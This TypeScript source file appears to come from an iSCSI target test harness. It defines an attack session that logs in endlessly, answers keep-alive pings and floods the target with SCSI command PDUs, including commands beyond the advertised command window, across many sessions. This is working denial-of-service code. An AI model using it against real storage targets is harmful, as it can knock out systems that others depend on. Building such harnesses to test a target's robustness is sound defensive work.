import { setTimeout as delay } from 'node:timers/promises';
import { Connection } from '../../initiator/connection.ts';
import { freshIsid, type LoginOptions, login } from '../../initiator/login.ts';
import {
  AnswerBhs,
  BHS_LENGTH,
  Bhs,
  NO_TAG,
  NopIn,
  NopOut,
  Opcode,
  type Pdu,
  padding,
  pdu,
  ScsiCommand,
} from '../../initiator/pdu.ts';
import { isAfter } from '../../initiator/sequence-watch.ts';
import { ATTACKER_NAME, type AttackField } from './attack.ts';

/** A command that a session sends again and again. */
export interface RawCommand {
  readonly cdb: Uint8Array;
  /** Immediate data. */
  readonly dataOut?: Uint8Array;
  readonly dataInLength?: number;
  /** Of data-out, where more is announced than is sent. */
  readonly expectedLength?: number;
  /** False announces unsolicited Data-Outs behind the command. */
  readonly isFinal?: boolean;
  /** 1: SIMPLE, 2: ORDERED, 3: HEAD OF QUEUE. */
  readonly attribute?: number;
}

/** Bytes that wait in this process to be sent; beyond them an attacker waits for its target. */
const UNSENT_BYTES_MAX = 256 * 1024;
const RETRY_MS = 50;
/** Without an answer for so long, what was sent beyond the window is sent again. */
const STALLED_MS = 200;

/**
 * A session that keeps no more rules than its attack needs. It follows the command window, answers
 * NOP-Ins so that the target keeps it, and looks at nothing else.
 */
export class AttackSession {
  readonly connection: Connection;
  readonly field: AttackField;
  cmdSn = 1;
  onR2t: (request: Pdu) => void = () => {};
  onAnswer: (answer: Pdu) => void = () => {};
  #expStatSn: number;
  #expCmdSn: number;
  #maxCmdSn: number;
  #tag = 0;
  #answeredAt = 0;

  private constructor(
    connection: Connection,
    field: AttackField,
    first: { readonly statSn: number; readonly expCmdSn: number; readonly maxCmdSn: number },
  ) {
    this.connection = connection;
    this.field = field;
    this.#expStatSn = (first.statSn + 1) >>> 0;
    this.#expCmdSn = first.expCmdSn;
    this.#maxCmdSn = first.maxCmdSn;
    connection.onPdu = (received) => this.#received(received);
    void connection.closed.then(() => field.tally.ended++);
  }

  /** Logs in as often as it takes; attackers have time. */
  static async open(
    field: AttackField,
    initiatorName: string,
    options: Partial<LoginOptions> = {},
  ): Promise<AttackSession> {
    for (;;) {
      try {
        return await AttackSession.openOnce(field, initiatorName, options);
      } catch {
        field.tally.ended++;
        await delay(RETRY_MS);
      }
    }
  }

  static async openOnce(
    field: AttackField,
    initiatorName: string,
    options: Partial<LoginOptions> = {},
  ): Promise<AttackSession> {
    const connection = await Connection.open(field.address);
    connection.maxRecvDataSegmentLength = 262_144;
    const isDiscovery = options.sessionType === 'Discovery';
    const target = isDiscovery ? {} : { targetName: field.targetName };
    try {
      const isid = freshIsid();
      const result = await login(connection, { initiatorName, isid, ...target, ...options });
      const session = new AttackSession(connection, field, result);
      // TEST UNIT READY takes the unit attention: the first command of an attack must not.
      if (!isDiscovery) connection.sendRaw(session.#numbered({ cdb: new Uint8Array(6) }).bytes);
      return session;
    } catch (error) {
      connection.destroy();
      throw error;
    }
  }

  get expStatSn(): number {
    return this.#expStatSn;
  }

  takeTag(): number {
    this.#tag = (this.#tag + 1) & 0x7fff_ffff;
    return this.#tag;
  }

  /** Sends one command, whatever the window says; returns its tag. */
  send(command: RawCommand): number {
    const { bytes, tag } = this.#numbered(command);
    this.sendBytes(bytes, 1);
    return tag;
  }

  sendBytes(bytes: Uint8Array, requests: number): void {
    this.field.tally.requests += requests;
    this.connection.sendRaw(bytes);
  }

  /**
   * Sends commands for as long as the session lives: all that the window allows, at once, and
   * `beyond` more, which the target takes only if it works off the others in the same turn.
   */
  async flood(next: () => RawCommand, beyond = 0): Promise<void> {
    while (this.connection.isOpen) {
      const isStalled = beyond > 0 && performance.now() - this.#answeredAt > STALLED_MS;
      if (isStalled && isAfter(this.cmdSn, this.#expCmdSn)) this.cmdSn = this.#expCmdSn;
      const end = (this.#maxCmdSn + 1 + beyond) >>> 0;
      if (this.connection.unsentBytes < UNSENT_BYTES_MAX && isAfter(end, this.cmdSn)) {
        this.#sendUpTo(end, next);
      }
      await delay(1);
    }
  }

  #sendUpTo(end: number, next: () => RawCommand): void {
    const parts: Buffer[] = [];
    let length = 0;
    while (isAfter(end, this.cmdSn) && length < UNSENT_BYTES_MAX) {
      const { bytes } = this.#numbered(next());
      parts.push(bytes);
      length += bytes.length;
    }
    this.sendBytes(Buffer.concat(parts), parts.length);
  }

  /** The PDU of a command with the next numbers. */
  #numbered(command: RawCommand): { readonly bytes: Buffer; readonly tag: number } {
    const tag = this.takeTag();
    const bytes = commandBytes(command);
    ScsiCommand.initiatorTaskTag.set(bytes, tag);
    ScsiCommand.cmdSn.set(bytes, this.cmdSn);
    ScsiCommand.expStatSn.set(bytes, this.#expStatSn);
    this.cmdSn = (this.cmdSn + 1) >>> 0;
    return { bytes, tag };
  }

  #received(received: Pdu): void {
    const { bhs } = received;
    const opcode = AnswerBhs.opcode.get(bhs);
    this.#answeredAt = performance.now();
    this.#expCmdSn = AnswerBhs.expCmdSn.get(bhs);
    this.#maxCmdSn = AnswerBhs.maxCmdSn.get(bhs);
    if (opcode === Opcode.r2t) {
      this.onR2t(received);
      return;
    }
    if (opcode === Opcode.nopIn && Bhs.initiatorTaskTag.get(bhs) === NO_TAG) {
      this.#answerPing(received);
      return;
    }
    const hasStatus = opcode !== Opcode.dataIn || (bhs[1]! & 1) === 1;
    if (hasStatus) {
      this.#expStatSn = (AnswerBhs.statSn.get(bhs) + 1) >>> 0;
      this.field.tally.answers++;
    }
    this.onAnswer(received);
  }

  #answerPing({ bhs }: Pdu): void {
    this.connection.send(
      pdu(NopOut, {
        opcode: Opcode.nopOut,
        immediate: 1,
        final: 1,
        initiatorTaskTag: NO_TAG,
        targetTransferTag: NopIn.targetTransferTag.get(bhs),
        cmdSn: this.cmdSn,
        expStatSn: this.#expStatSn,
      }),
    );
  }
}

/** Opens the sessions of an attack, each of an initiator of its own. */
export async function openSessions(
  field: AttackField,
  count: number = field.sessions,
  options: Partial<LoginOptions> = {},
): Promise<AttackSession[]> {
  const sessions: AttackSession[] = [];
  for (let index = 0; index < count; index++) {
    sessions.push(await AttackSession.open(field, `${ATTACKER_NAME}-${index}`, options));
  }
  return sessions;
}

/** Floods from every session of the attack; one that is ended is opened again. */
export async function floodFrom(
  field: AttackField,
  next: (index: number) => () => RawCommand,
  beyond = 0,
): Promise<void> {
  const sessions = await openSessions(field);
  sessions.forEach((first, index) => {
    void (async () => {
      for (let session = first; ; ) {
        await session.flood(next(index), beyond);
        session = await AttackSession.open(field, `${ATTACKER_NAME}-${index}`);
      }
    })();
  });
}

/** A SCSI Command PDU without its numbers. */
function commandBytes(command: RawCommand): Buffer {
  const { cdb, dataOut, dataInLength = 0, expectedLength, attribute = 1, isFinal = true } = command;
  const data = dataOut?.length ?? 0;
  const bytes = Buffer.alloc(BHS_LENGTH + data + padding(data));
  const expected = expectedLength ?? (data > 0 ? data : dataInLength);
  const isWrite = dataOut !== undefined;
  ScsiCommand.opcode.set(bytes, Opcode.scsiCommand);
  ScsiCommand.final.set(bytes, isFinal ? 1 : 0);
  ScsiCommand.read.set(bytes, !isWrite && expected > 0 ? 1 : 0);
  ScsiCommand.write.set(bytes, isWrite ? 1 : 0);
  ScsiCommand.attribute.set(bytes, attribute);
  ScsiCommand.expectedDataTransferLength.set(bytes, expected);
  ScsiCommand.dataSegmentLength.set(bytes, data);
  bytes.set(cdb, 32);
  if (dataOut !== undefined) bytes.set(dataOut, BHS_LENGTH);
  return bytes;
}
